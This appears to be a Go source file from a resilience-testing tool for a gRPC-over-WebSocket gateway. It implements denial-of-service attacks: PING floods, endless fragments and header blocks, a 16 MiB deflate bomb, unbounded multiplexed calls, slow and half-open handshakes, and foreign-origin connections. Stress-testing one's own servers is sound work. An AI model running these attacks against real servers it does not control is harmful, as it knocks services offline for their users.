package attack

import (
	"bufio"
	"bytes"
	"compress/flate"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"
)

// A socket is a client's WebSocket on which everything can be written.
type socket struct {
	ctx     context.Context
	log     *Log
	nc      net.Conn
	bw      *bufio.Writer
	frames  int // since the last burst ended
	began   time.Time
	stopped chan struct{} // the gateway has said its last word
}

// socketOptions are of a handshake.
type socketOptions struct {
	path, protocol string
	more           string // header lines
	deaf           bool   // reads nothing after the handshake
}

const (
	pipes     = "/sluice/v1"
	callBlock = "content-type: application/grpc-web+proto\r\n"
)

// ws makes an attack of what is done on a WebSocket.
func ws(o socketOptions, do func(s *socket) error) func(context.Context, Target, *Log) error {
	return func(ctx context.Context, at Target, l *Log) error {
		nc, err := net.DialTimeout("tcp", at.Addr, 5*time.Second)
		if err != nil {
			if ctx.Err() != nil {
				return ctx.Err()
			}
			return fmt.Errorf("%w: %w", errDial, err)
		}
		defer nc.Close()
		stop := context.AfterFunc(ctx, func() { _ = nc.Close() })
		defer stop()
		s := &socket{ctx: ctx, log: l, nc: nc, bw: bufio.NewWriter(nc), began: time.Now(), stopped: make(chan struct{})}
		fmt.Fprintf(s.bw, "GET %s HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"+
			"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: %s\r\n%s\r\n", o.path, at.Addr, o.protocol, o.more)
		if err := s.bw.Flush(); err != nil {
			return err
		}
		br := bufio.NewReader(nc)
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			return err
		}
		l.sent(1)
		if resp.StatusCode != http.StatusSwitchingProtocols {
			l.saw(resp.Status)
			return nil
		}
		if !o.deaf {
			go s.read(br) // ends with the connection
		}
		err = do(s)
		l.sent(s.frames)
		if err == nil {
			err = s.bw.Flush()
		}
		if err != nil && ctx.Err() == nil && !o.deaf {
			select { // the Close is still to be read
			case <-s.stopped:
			case <-time.After(50 * time.Millisecond):
			}
		}
		_ = nc.Close()
		if !o.deaf {
			<-s.stopped
		}
		return err
	}
}

// read reads frames, and tells of Closes and of statuses.
func (s *socket) read(br *bufio.Reader) {
	defer close(s.stopped)
	for {
		var head [2]byte
		if _, err := io.ReadFull(br, head[:]); err != nil {
			return
		}
		n := int(head[1] & 0x7f)
		if n == 126 {
			var long [2]byte
			if _, err := io.ReadFull(br, long[:]); err != nil {
				return
			}
			n = int(binary.BigEndian.Uint16(long[:]))
		}
		b := make([]byte, n)
		if _, err := io.ReadFull(br, b); err != nil {
			return
		}
		_, status, failed := strings.Cut(string(b), "grpc-status: ")
		switch {
		case head[0] == 0x88 && n >= 2:
			s.log.saw(fmt.Sprintf("Close %d", binary.BigEndian.Uint16(b)))
			return
		case failed:
			status, _, _ = strings.Cut(status, "\r\n")
			s.log.saw("status " + status)
		}
	}
}

// frame appends a frame. Its mask is of zeros, which is as good as any.
func (s *socket) frame(first byte, payload []byte) {
	head := []byte{first, 0x80 | byte(len(payload))}
	switch {
	case len(payload) >= 1<<16:
		head[1] = 0x80 | 127
		head = binary.BigEndian.AppendUint64(head, uint64(len(payload)))
	case len(payload) > 125:
		head[1] = 0x80 | 126
		head = binary.BigEndian.AppendUint16(head, uint16(len(payload)))
	}
	_, _ = s.bw.Write(append(head, 0, 0, 0, 0))
	_, _ = s.bw.Write(payload)
}

// What a frame is.
const (
	fin        = 0x80
	compressed = 0x40
	binaryOp   = 2
	pingOp     = 9
)

// step counts frames, and rests after a burst.
func (s *socket) step(n int) error {
	s.frames += n
	select {
	case <-s.stopped:
		return errors.New("closed")
	default:
	}
	if s.frames < burst {
		return s.ctx.Err()
	}
	if err := s.bw.Flush(); err != nil {
		return err
	}
	s.log.sent(s.frames)
	s.frames = 0
	sleep(s.ctx, 3*time.Since(s.began))
	s.began = time.Now()
	return s.ctx.Err()
}

// again does one thing until the connection ends.
func (s *socket) again(do func(i int)) error {
	for i := 0; ; i++ {
		do(i)
		if err := s.step(1); err != nil {
			return err
		}
	}
}

// hold does nothing more until the end.
func (s *socket) hold() error {
	if err := s.bw.Flush(); err != nil {
		return err
	}
	select {
	case <-s.ctx.Done():
	case <-s.stopped:
	}
	return s.ctx.Err()
}

// bomb is a message of zeros for permessage-deflate, of 16 MiB.
var bomb = func() []byte {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.BestCompression) // the level exists
	_, _ = w.Write(make([]byte, 16<<20))
	_ = w.Flush()
	return bytes.TrimSuffix(b.Bytes(), []byte{0, 0, 0xff, 0xff})
}()

// sockets are the attacks by WebSocket.
func sockets() []Attack {
	one := socketOptions{path: duplex, protocol: "grpc-websockets"}
	many := socketOptions{path: duplex, protocol: "grpc-websockets-multiplex"}
	pipe := socketOptions{path: pipes, protocol: "sluice.v1"}
	deaf, zipped, foreign := pipe, one, pipe
	deaf.deaf = true
	zipped.more = "Sec-WebSocket-Extensions: permessage-deflate\r\n"
	foreign.more = "Origin: https://evil.example\r\n"
	return []Attack{
		{"WebSocket, foreign origin", "a page of another origin opens one WebSocket after the other", 4, waits, ws(foreign, func(*socket) error { return nil })},
		{"WebSocket, PING", "PINGs on a pipe, the answers are read", 4, ends,
			ws(pipe, func(s *socket) error { return s.again(func(int) { s.frame(fin|pingOp, nil) }) })},
		{"WebSocket, PING, deaf", "PINGs of 125 bytes, the answers are not read", 4, ends,
			ws(deaf, func(s *socket) error { return s.again(func(int) { s.frame(fin|pingOp, zeros[:125]) }) })},
		{"WebSocket, empty messages", "messages without a byte, on a call of grpc-websockets", 4, ends,
			ws(one, func(s *socket) error {
				s.frame(fin|binaryOp, []byte(callBlock))
				return s.again(func(int) { s.frame(fin|binaryOp, nil) })
			})},
		{"WebSocket, fragments", "a message of fragments of one byte that never ends, on a call of grpc-websockets", 4, ends,
			ws(one, func(s *socket) error {
				s.frame(fin|binaryOp, []byte(callBlock))
				s.frame(binaryOp, append([]byte{0}, partly...))
				return s.again(func(int) { s.frame(0, zeros[:1]) })
			})},
		{"WebSocket, header block", "a header block of grpc-websockets that never ends", 4, ends,
			ws(one, func(s *socket) error {
				s.frame(binaryOp, []byte("x-a: "))
				return s.again(func(int) { s.frame(0, bytes.Repeat([]byte("a"), 1000)) })
			})},
		{"WebSocket, bombs", "messages of 16 MiB, compressed to 16 KiB", 4, waits,
			ws(zipped, func(s *socket) error {
				s.frame(fin|binaryOp, []byte(callBlock))
				return s.again(func(int) { s.frame(fin|compressed|binaryOp, bomb) })
			})},
		{"WebSocket, too many calls", "opens calls of grpc-websockets-multiplex and ends none, far above the limit", 4, ends,
			ws(many, func(s *socket) error {
				return s.again(func(i int) {
					id := binary.BigEndian.AppendUint32(nil, uint32(i))
					s.frame(fin|binaryOp, append(id, "grpc-websockets-path: "+duplex[1:]+"\r\n"+callBlock...))
				})
			})},
		{"WebSocket, half-open", "a handshake, and nothing more", 2000, waits, ws(one, (*socket).hold)},
		{"WebSocket, half a block", "a handshake, and a header block of which the last byte is missing", 1000, waits,
			ws(one, func(s *socket) error {
				s.frame(binaryOp, []byte("x-a: "+strings.Repeat("a", 8000)))
				return s.hold()
			})},
		{"WebSocket, slow handshake", "a request for a WebSocket, a byte every 100 ms", 500, waits, func(ctx context.Context, at Target, l *Log) error {
			nc, err := net.DialTimeout("tcp", at.Addr, 5*time.Second)
			if err != nil {
				return fmt.Errorf("%w: %w", errDial, err)
			}
			defer nc.Close()
			for _, c := range []byte("GET " + pipes + " HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n") {
				if _, err := nc.Write([]byte{c}); err != nil {
					return err
				}
				l.sent(1)
				if sleep(ctx, 100*time.Millisecond); ctx.Err() != nil {
					return ctx.Err()
				}
			}
			return nil
		}},
	}
}
